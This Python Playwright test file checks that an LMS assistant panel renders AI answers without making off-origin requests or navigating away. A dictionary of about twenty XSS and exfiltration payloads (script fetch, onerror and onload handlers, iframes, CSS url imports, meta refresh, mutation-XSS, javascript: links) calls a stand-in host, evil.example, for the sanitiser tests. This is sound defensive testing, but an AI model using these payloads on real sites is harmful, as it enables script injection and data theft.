"""No answer makes the page that shows it ask for anything, or offers a way off the LMS's origin (invariant J3).

Each hostile text is asked for and shown in the real panel under the page's real policy, once as the service cleans it,
once as a service that was taken over would send it; every name of the world leads to a server that counts.
"""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Any

import pytest
from markdown_it import MarkdownIt
from playwright.async_api import Page, Route

from tests.browser.chromium import chromium
from tests.browser.panel_house import Panel, panel_at, plain_house
from tests.browser.sink import Sink, sink
from tests.browser.steering import until
from tests.case_counts import CountCases
from tests.fakes.house import question_body
from tests.fakes.models import ScriptedModel, says
from tests.unit.hostile_markdown import HOSTILE

pytestmark = pytest.mark.slow

EVIL = "http://evil.example"

MARKUP = {
    "script": f"<script>fetch('{EVIL}/s')</script>",
    "handler": f"<img src=x onerror=\"fetch('{EVIL}/h')\">",
    "svg": f"<svg onload=\"fetch('{EVIL}/o')\"><image href='{EVIL}/i'/><use href='{EVIL}/u#x'/></svg>",
    "frame": f"<iframe src='{EVIL}/f'></iframe><object data='{EVIL}/d'></object><embed src='{EVIL}/e'>",
    "style": f"<style>@import url({EVIL}/c.css); p {{ background: url({EVIL}/b) }}</style><p>x</p>",
    "inline style": f"<p style='background: url({EVIL}/b)'>x</p>",
    "sources": f"<picture><source srcset='{EVIL}/p'><img srcset='{EVIL}/q 1x'></picture>",
    "poster": f"<video poster='{EVIL}/v' autoplay src='{EVIL}/z'></video>",
    "link": f"<link rel=stylesheet href='{EVIL}/l'><link rel=prefetch href='{EVIL}/r'><base href='{EVIL}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/m'>",
    "form": f"<form action='{EVIL}/a'><button formaction='{EVIL}/b' autofocus>Go</button></form>",
    "image button": f"<input type=image src='{EVIL}/n'>",
    "ping": f"<a href='/pools' ping='{EVIL}/g'>pools</a>",
    "background": f"<table background='{EVIL}/t'><tr><td background='{EVIL}/u'>x</td></tr></table>",
    "shadow": f"<div><template shadowrootmode=open><img src='{EVIL}/w'></template></div>",
    "template": f"<template><img src='{EVIL}/x'></template>",
    "mutation": f"<math><mtext><table><mglyph><style><img src='{EVIL}/y' onerror=alert(1)></style></table></math>",
    "clobbering": "<a id=host href='/x'></a><form name=desk><input name=client></form>",
    "script address": "<a href='javascript:fetch(`http://evil.example/j`)'>x</a>",
    "odd citation": f"<sup class=citation data-marker='1' onclick=\"fetch('{EVIL}/k')\">1</sup>",
}
"""HTML that no service of ours sends."""

LINKS = """() => [...document.querySelector("assist-panel").shadowRoot.querySelectorAll("[href], [src], [action]")]
  .filter((each) => each.tagName !== "LINK")
  .map((each) => ["href", "src", "action"].map((name) => each.getAttribute(name)).find((value) => value !== null))
  .map((address) => new URL(address, location).origin)
  .filter((origin) => origin !== location.origin)"""
"""Where anything in the panel leads, its own styles apart, that is not on the page's origin."""

STRANGE = """() => [...document.querySelector("assist-panel").shadowRoot.querySelectorAll(".prose *")]
  .filter((each) => ["img", "script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "template",
      "link", "meta", "base", "video"].includes(each.localName)
    || [...each.attributes].some(({name}) => /^(on|style|srcset|ping|background|id|name)/.test(name)))
  .map((each) => each.outerHTML)"""
"""Whatever in an answer fetches, runs, or has a name that a page could stumble over."""


@dataclass
class Watched:
    panel: Panel
    sink: Sink
    origins: set[str]

    async def shows(self, texts: list[str | None]) -> None:
        """Puts these into the panel, or what it is answered for each None."""
        service = str(self.panel.house.service.base_url).rstrip("/")
        await self.panel.page.evaluate(SHOWN, [service, texts, question_body()])

    async def nothing_was_asked_for(self) -> None:
        # What an answer had begun to ask for arrives before what is asked for last.
        browser = self.panel.page.context.browser
        assert browser is not None
        elsewhere = await browser.new_page()
        await elsewhere.set_content("<img src='http://last.example/'>")
        await until(lambda: "last.example" in self.sink.asked)
        assert self.sink.asked == ["last.example"]
        assert {"/".join(each.split("/")[:3]) for each in self.panel.requests} <= self.origins
        assert await self.panel.page.evaluate(LINKS) == []
        assert await self.panel.page.evaluate(STRANGE) == []
        assert await self.panel.page.evaluate("window.page.moves") == []


@asynccontextmanager
async def watched(database_url: str, model: ScriptedModel) -> AsyncIterator[Watched]:
    """The panel open on its page; the policy asks for no citations, so that each text is shown as it comes."""
    ruled = {"limits": {"questions_per_minute": 1000}}
    async with (
        sink() as world,
        chromium(world.flag) as browser,
        plain_house(database_url, provider=model, policy="teacher-assistant", ruled=ruled) as (house, address),
        panel_at(browser, house, address, reduced_motion="reduce") as panel,
    ):
        await panel.open()
        await panel.element.locator(".notice").wait_for()
        yield Watched(panel, world, {address, str(house.service.base_url).rstrip("/"), "data:"})


async def shown(panel: Panel, question: str) -> None:
    """Asks, and returns once an answer stands there."""
    await panel.ask(question)
    await panel.last.locator(".prose").wait_for(state="attached")
    await panel.element.get_by_role("button", name="Send").wait_for()


async def test_a_fetch_is_counted(database_url: str) -> None:
    """The control: without it the tests below could not fail."""
    async with sink() as world, chromium(world.flag) as browser:
        page = await browser.new_page()
        await page.set_content("".join(MARKUP[name] for name in ("handler", "frame", "sources", "background", "svg")))
        await page.set_content(f"<img src='https://encrypted.example/i'><img src='{EVIL}/plain'>")
        hosts = {"evil.example", "encrypted.example"}
        await until(lambda: len(world.asked) > 5 and hosts <= set(world.asked))
        assert set(world.asked) == hosts


SHOWN = """async ([service, texts, question]) => {
  const {AssistClient} = await import(`${service}/assist/panel/assist-client.js`);
  const {fragmentOf} = await import(`${service}/assist/panel/view/html.js`);
  const {token} = document.querySelector("assist-panel").host;
  const client = new AssistClient({service, token});
  const log = document.querySelector("assist-panel").shadowRoot.querySelector(".log");
  const links = {cite: () => document.createElement("button"), follow: (path) => window.page.moves.push(path)};
  for (const text of texts) {
    const body = {...question, question: text ?? question.question};
    const html = text ?? (await client.ask(body, {key: crypto.randomUUID()})).html;
    const prose = document.createElement("div");
    prose.className = "prose";
    prose.append(fragmentOf(html, links));
    log.append(prose);
  }
}"""
"""Each text in the panel, through the one door it has for HTML; null: what the service sends for an answer."""

EACH = 10
"""Of so many texts one is asked for with the keyboard too; for all of them that would take minutes."""


async def test_no_hostile_answer_is_asked_for_or_leads_away(database_url: str, count_cases: CountCases) -> None:
    texts = list(HOSTILE.values())
    model = ScriptedModel(*(says(f"Here: {text}") for text in [*texts, *texts[::EACH]]), says("The end"))
    async with watched(database_url, model) as page:
        await page.shows([None] * len(texts))
        for at in range(0, len(texts), EACH):
            await shown(page.panel, f"What is {at}?")
        await page.nothing_was_asked_for()
        assert await page.panel.element.locator(".prose").count() == len(texts) + len(texts[::EACH])
        assert len(model.requests) == len(texts) + len(texts[::EACH])
        count_cases("hostile answers", len(texts), "as the service cleans them")
        count_cases("hostile answers, requests", len(page.sink.asked) - 1, "cleaned")


async def test_nothing_a_service_sends_gets_past_the_panels_own_door(
    database_url: str, count_cases: CountCases
) -> None:
    html = MARKUP | {name: str(MarkdownIt("default", {"html": True}).render(text)) for name, text in HOSTILE.items()}
    async with watched(database_url, ScriptedModel(says("Unused"))) as page:
        await page.shows(list(html.values()))
        sent = list(MARKUP.values())

        async def answer(route: Route) -> None:
            await route.fulfill(json=_reply(sent.pop(0)), headers=await _cors(page.panel.page))

        await page.panel.page.route("**/assist/ask", answer)
        for name in MARKUP:
            await shown(page.panel, f"What is {name}?")
        await page.nothing_was_asked_for()
        assert await page.panel.element.locator(".prose").count() == len(html) + len(MARKUP)
        count_cases("hostile answers", len(html), "as they are")
        count_cases("hostile answers, requests", len(page.sink.asked) - 1, "as they are")


async def _cors(page: Page) -> dict[str, str]:
    return {"Access-Control-Allow-Origin": await page.evaluate("location.origin"), "Content-Type": "application/json"}


def _reply(html: str) -> dict[str, Any]:
    some = "00000000-0000-4000-8000-000000000001"
    return {
        "conversation_id": some,
        "exchange_id": some,
        "kind": "manual",
        "answer": "x",
        "html": html,
        "language": "en",
        "citations": [],
        "actions": [],
        "writes": [],
        "references": [],
        "choices": [],
        "statement": {"opened": [], "prepared": [], "changed": False},
        "receipt": {
            "models": ["stub"],
            "requests": 1,
            "input_tokens": 1,
            "cached_input_tokens": 0,
            "output_tokens": 1,
            "cost_micros": 1,
            "corpus_version": "x",
            "sent": [],
            "also_sent": [],
        },
    }
